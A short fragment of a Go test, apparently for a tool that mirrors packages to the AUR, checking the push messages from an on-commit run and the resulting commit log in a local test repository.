	f.g.Git("push", "-q", "origin", "HEAD:main")
	f.g.Git("-C", dir, "pull", "-q", "origin", "main")
	_, errOut := f.runIn(dir, 0, "on-commit")
	if !strings.Contains(errOut, "ours is pushed to the AUR") || !strings.Contains(errOut, "missing is not pushed to the AUR") {
		t.Error(errOut)
	}
	if got := f.g.Git("-C", filepath.Join(root, "ours.git"), "log", "--format=%s %b", "master"); got != "chore: update ours https://git.example.org/r/-/commits/main/ours\n" {
		t.Errorf("%q", got)
	}
}
